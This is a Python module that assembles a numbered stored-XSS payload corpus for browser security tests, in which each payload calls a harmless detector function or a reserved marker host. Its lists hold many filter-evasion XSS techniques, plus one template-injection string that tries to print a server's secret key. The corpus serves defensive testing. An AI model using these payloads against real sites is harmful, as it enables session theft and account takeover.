"""A stored-XSS corpus of our own: every payload, if it ever runs, calls `window.__xss(N)`
or asks the marker host (`xss.invalid`) for `/N`, so the browser tests can tell which one
got through and where.

Placeholders in the templates: `§x` is the detector call `__xss(N)`, `§m` the marker URL
`//xss.invalid/N`, `§n` the number. No C0 control characters (the input validation refuses
them): tabs and newlines appear only as character references (`&#9;`), which is where the
tricks live anyway.
"""

import base64
import re
from dataclasses import dataclass

MARKER_HOST = "xss.invalid"
DETECTOR = "__xss"


@dataclass(frozen=True)
class Payload:
    n: int
    kind: str
    text: str


SCRIPT_TAGS = [
    "<script>§x</script>",
    "<SCRIPT>§x</SCRIPT>",
    "<ScRiPt>§x</sCrIpT>",
    "<script src=§m.js></script>",
    '<script type="module">§x</script>',
    "<script type=text/javascript>§x</script>",
    "<<script>§x;//<</script>",
    "<script/xss>§x</script>",
    "<scr<script>ipt>§x</scr</script>ipt>",
    "<script>fetch('§m')</script>",
    "<script>new Image().src='§m'</script>",
    "<script>document.write('<img src=§m>')</script>",
    "<!--><script>§x</script>-->",
    "<![CDATA[<script>§x</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=§x>">',
    "<template><script>§x</script></template><script>§x</script>",
    "%3Cscript%3E§x%3C/script%3E",
    "&lt;script&gt;§x&lt;/script&gt;",
    "&amp;lt;script&amp;gt;§x&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e§x\\u003c/script\\u003e",
    "\\x3cscript\\x3e§x\\x3c/script\\x3e",
    "<script>/*</script>*/§x</script>",
    "<script>eval(atob('§b'))/*xss*/</script>",
    "<script>window['__x'+'ss'](§n)/*xss*/</script>",
    "<script\x20defer>§x</script>",
]

# Tags and the handler that fires in them without a user (or with a hover/click the
# DOM scan catches anyway).
HANDLERS = [
    "<img src=x onerror=§x>",
    '<img src="x" onerror="§x">',
    "<img/src=x/onerror=§x>",
    "<IMG SRC=x ONERROR=§x>",
    "<img src=x onerror=&#95;&#95;xss(§n)>",
    "<img src=x onerror=\\u005f_xss(§n)>",
    "<img src=x onerror=__xss`§n`>",
    "<img src=x onerror=eval(atob('§b'))/*xss*/>",
    "<img src=x:x onerror=§x>",
    "<img src onerror=§x>",
    '<img src="x" alt="x"onerror="§x">',
    "<svg onload=§x>",
    "<svg/onload=§x//",
    "<body onload=§x>",
    "<body onpageshow=§x>",
    "<iframe onload=§x></iframe>",
    "<input autofocus onfocus=§x>",
    "<select autofocus onfocus=§x></select>",
    "<textarea autofocus onfocus=§x></textarea>",
    "<keygen autofocus onfocus=§x>",
    "<video src=x onerror=§x></video>",
    "<video><source onerror=§x></video>",
    "<audio src=x onerror=§x></audio>",
    "<details open ontoggle=§x>",
    "<marquee onstart=§x>xss</marquee>",
    "<object data=x onerror=§x></object>",
    "<a onmouseover=§x>xss</a>",
    "<div onpointerenter=§x>xss</div>",
    "<button onclick=§x>xss</button>",
    "<form onsubmit=§x><button>xss</button></form>",
    "<style onload=§x></style>",
    "<link rel=stylesheet href=x onerror=§x>",
    "<track src=x onerror=§x>",
    "<frameset onload=§x>",
    "<image src=x onerror=§x>",
    "<input type=image src=x onerror=§x>",
    "<isindex type=image src=x onerror=§x>",
    "<xss id=x tabindex=1 onfocus=§x autofocus>",
    "<html onmouseover=§x>",
    "<p onclick=§x id=xss>x</p>",
    "<span onanimationstart=§x style=animation-name:x>xss</span>",
    "<div ontransitionend=§x>xss</div>",
    "<img src=x onerror='window.parent.__xss(§n)'>",
    "<img src=x onerror=&quot;§x&quot;>",
    "<img src=x\u00a0onerror=§x>",
]

URLS = [
    "javascript:§x",
    "JaVaScRiPt:§x",
    "javascript&#58;§x",
    "javascript&colon;§x",
    "jav&#x61;script:§x",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;§x",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;§x",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058§x",  # noqa: E501
    "java&#9;script:§x",
    "java&#10;script:§x",
    "java&#13;script:§x",
    "java&Tab;script:§x",
    "java&NewLine;script:§x",
    "&#14;javascript:§x",
    " javascript:§x",
    "javascript://%0a§x",
    "javascript:/*-->*/§x",
    "javascript:void(§x)",
    "javascript:__xss%28§n%29",
    "data:text/html,<script>parent.§x</script>",
    "data:text/html;base64,§h",
    "data:image/svg+xml,<svg onload=§x>",
    "DATA:text/html,<script>parent.§x</script>",
    "vbscript:§x",
    "VBScript:§x",
    "%6Aavascript:§x",
    "\u3000javascript:§x",
]
URL_POSITIONS = [
    '<a href="§u">xss</a>',
    "<a href=§u>xss</a>",
    '<iframe src="§u"></iframe>',
    '<form action="§u"><button>xss</button></form>',
]

SVG_MATHML = [
    "<svg><script>§x</script></svg>",
    "<svg><script href=data:,§x />",
    "<svg><animate onbegin=§x attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:§x"><text x=20 y=20>xss</text></a></svg>',
    "<svg><set attributeName=onmouseover to=§x>",
    "<svg><foreignObject><img src=x onerror=§x></foreignObject></svg>",
    "<svg><style><img src=x onerror=§x></style></svg>",
    "<svg><image href=§m />",
    "<math><mtext><table><mglyph><style><img src=x onerror=§x>",
    '<math href="javascript:§x">xss</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:§x>xss</maction></math>",
    "<svg><desc><![CDATA[</desc><script>§x</script>]]></svg>",
    "<svg><title><img src=x onerror=§x></title></svg>",
    "<math><mi xlink:href=data:x,<script>§x</script>>",
    "<svg><use href=§m.svg#x />",
]

ATTRIBUTE_BREAKERS = [
    '" onmouseover="§x',
    "' onfocus='§x' autofocus '",
    '" autofocus onfocus="§x',
    '"><img src=x onerror=§x>',
    "'><img src=x onerror=§x>",
    "` onmouseover=§x",
    '" style="background:url(§m)',
    '"/><svg onload=§x>',
    'x" onerror="§x',
    "&quot; onerror=&quot;§x",
    "&#34;><script>§x</script>",
    '" content="0;url=javascript:§x" http-equiv="refresh',
    '"><meta http-equiv="refresh" content="0;url=§m">',
    '" srcset="§m 1x',
    '" src="§m',
]

TEMPLATES = [
    "{{constructor.constructor('§x')()}}",
    "{{$on.constructor('§x')()}}",
    "${§x}",
    "`${§x}`",
    "#{§x}",
    "<%= §x %>",
    "[[§x]]",
    "{{§x}}",
    "{{{§x}}}",
    "{% debug %}{{ settings.SECRET_KEY }}§x",
    '{% now "Y" %}{{ 41|add:§n }}§x',
    "{% include 'base.html' %}§x",
    '<div x-data x-init="§x">xss</div>',
    '<div ng-app ng-csp><input autofocus ng-focus="$event.view.§x"></div>',
    '<button data-controller="w-action" data-action="click->w-action#post" '
    'data-w-action-url-value="javascript:§x">xss</button>',
]

CSS = [
    "<style>@import '§m.css';</style>",
    "<style>body{background:url(§m)}</style>",
    '<div style="background-image:url(§m)">xss</div>',
    '<div style="width:expression(§x)">xss</div>',
    "<link rel=stylesheet href=§m.css>",
    "<style>*{x:expression(§x)}</style>",
    '<div style="behavior:url(§m.htc)">xss</div>',
    '<p style="background:url(&quot;javascript:§x&quot;)">xss</p>',
    "</style><script>§x</script>",
    "<style>@font-face{font-family:x;src:url(§m.woff)}</style>",
    '<div style="--x:url(§m);background:var(--x)">xss</div>',
    '<span style="xss:expr/**/ession(§x)">xss</span>',
]

UNICODE = [
    "\uff1cscript\uff1e§x\uff1c/script\uff1e",
    "<scr\u200bipt>§x</scr\u200bipt>",
    "<img src=x onerror=§x>\u202e",
    "\u2028</script><script>§x</script>\u2029",
    "\u00bcscript\u00be§x\u00bc/script\u00be",
    "\uff1cimg src=x onerror=§x\uff1e",
    "\ufeff<script>§x</script>",
    "<SCR\u0130PT>§x</SCR\u0130PT>",
    "<\u017fcript>§x</\u017fcript>",
    "<\u212aBD onmouseover=§x>xss</\u212aBD>",
    "%u003cscript%u003e§x%u003c/script%u003e",
    "&#x3C;script&#x3E;§x&#x3C;/script&#x3E;",
    "&lt;img src=x onerror=§x&gt;",
    "\uff02 onmouseover=\uff02§x",
    "\U0001f642<script>§x</script>\U0001f642",
    "\u2028\u2029<img src=x onerror=§x>",
    "<a href=\u2028javascript:§x>xss</a>",
    "\ud7ff\ue000<svg onload=§x>",
]

CLOSERS = [
    "</textarea><script>§x</script>",
    "</title><script>§x</script>",
    "</script><script>§x</script>",
    "</script><img src=x onerror=§x>",
    "</style><img src=x onerror=§x>",
    "</noscript><img src=x onerror=§x>",
    "</xmp><script>§x</script>",
    "</iframe><script>§x</script>",
    "</noembed><script>§x</script>",
    "</template><script>§x</script>",
    "--><script>§x</script>",
    "]]><script>§x</script>",
    "</description><script>§x</script>",
    "</title><link>javascript:§x</link>",
    '"}]}</script><script>§x</script>',
    '\\"}</script><script>§x</script>',
    "</SCRIPT ><script>§x</script>",
    "</script foo><script>§x</script>",
    "<!--</script><script>§x</script>-->",
    "<\\/script><script>§x</script>",
    "</option></select><img src=x onerror=§x>",
    '</a><a href="javascript:§x">xss</a>',
    "</h1><script>§x</script>",
    "</time><script>§x</script>",
    "</figcaption><img src=x onerror=§x>",
    "</li><li><img src=x onerror=§x>",
    "</code></pre><script>§x</script>",
    "</label><script>§x</script>",
    "</head><body onload=§x>",
    "</body><script>§x</script>",
    "</textarea></form><form action=javascript:§x><button>xss</button>",
    "</summary><svg onload=§x>",
]

MISC = [
    '<iframe srcdoc="<script>parent.§x</script>"></iframe>',
    '<iframe src="§m"></iframe>',
    '<object data="§m"></object>',
    '<embed src="§m">',
    '<base href="§m/">',
    '<meta http-equiv="refresh" content="0;url=javascript:§x">',
    '<form><button formaction="javascript:§x">xss</button></form>',
    "<img src=§m>",
    "<video poster=§m></video>",
    "<link rel=prefetch href=§m>",
    "<a ping=§m href=#>xss</a>",
    '<img srcset="§m 1x">',
    '<table background="§m"><tr><td>xss</td></tr></table>',
    '<object data="javascript:§x"></object>',
    '<embed src="javascript:§x">',
    '<a href="#" data-href="javascript:§x">xss</a>',
    '<img src="x" onerror="&#x5f;&#x5f;xss(§n)">',
    "<img src=x onerror=window['__x'+'ss'](§n)/*xss*/>",
    '<input type="hidden" accesskey="x" onclick="§x">',
    "<portal src=§m></portal>",
    "<picture><source srcset=§m><img></picture>",
    "[xss](javascript:§x)",
    '<a href="https://example.org/" onclick="§x">xss</a>',
    "<p>word " * 3 + "<img src=x onerror=§x>",
]

CATEGORIES = {
    "script": SCRIPT_TAGS,
    "handler": HANDLERS,
    "svg-mathml": SVG_MATHML,
    "attribute": ATTRIBUTE_BREAKERS,
    "template": TEMPLATES,
    "css": CSS,
    "unicode": UNICODE,
    "closer": CLOSERS,
    "misc": MISC,
}


def _fill(template: str, n: int) -> str:
    call = f"{DETECTOR}({n})"
    html = base64.b64encode(f"<script>parent.{call}</script>".encode()).decode()
    return (
        template.replace("§x", call)
        .replace("§m", f"//{MARKER_HOST}/{n}")
        .replace("§n", str(n))
        .replace("§b", base64.b64encode(call.encode()).decode())
        .replace("§h", html)
    )


def _build() -> list[Payload]:
    found: list[Payload] = []

    def add(kind: str, template: str) -> None:
        n = len(found) + 1
        found.append(Payload(n, kind, _fill(template, n)))

    for kind, templates in CATEGORIES.items():
        for template in templates:
            add(kind, template)
    for url in URLS:
        for position in URL_POSITIONS:
            add("url", position.replace("§u", url))
    return found


PAYLOADS: list[Payload] = _build()
# The bare URLs, for fields that hold a URL (Draftail link entities, link fields).
URL_PAYLOADS: list[Payload] = [
    Payload(len(PAYLOADS) + i + 1, "bare-url", _fill(url, len(PAYLOADS) + i + 1))
    for i, url in enumerate(URLS)
]
ALL: list[Payload] = PAYLOADS + URL_PAYLOADS
BY_NUMBER = {p.n: p for p in ALL}

_CONTROL = re.compile(r"[\x00-\x1f\x7f]")


def has_control_characters(text: str) -> bool:
    return bool(_CONTROL.search(text))


def pack(payloads: list[Payload], limit: int, sep: str = " ") -> str:
    """As many of `payloads` as fit in `limit` characters, joined by `sep`."""
    out = ""
    for p in payloads:
        candidate = f"{out}{sep}{p.text}" if out else p.text
        if len(candidate) > limit:
            continue
        out = candidate
    return out


class Cycle:
    """Hands out payloads in turn, so short fields across many objects cover the corpus."""

    def __init__(self, payloads: list[Payload], start: int = 0):
        self.payloads = payloads
        self.i = start

    def take(self, limit: int, count: int = 8) -> str:
        chosen = [self.payloads[(self.i + k) % len(self.payloads)] for k in range(count)]
        self.i += count
        return pack(chosen, limit) or chosen[0].text[:limit]

    def one(self, limit: int) -> Payload:
        for _ in range(len(self.payloads)):
            p = self.payloads[self.i % len(self.payloads)]
            self.i += 1
            if len(p.text) <= limit:
                return p
        raise ValueError(f"no payload fits in {limit} characters")


_BASE64_RUN = re.compile(r"[A-Za-z0-9+/]{16,}={0,2}")


def is_detectable(text: str) -> bool:
    """The payload names the detector or the marker host, in clear or base64-encoded."""
    if "xss" in text.lower():
        return True
    for run in _BASE64_RUN.findall(text):
        try:
            if DETECTOR in base64.b64decode(run).decode(errors="ignore"):
                return True
        except ValueError:
            continue
    return False
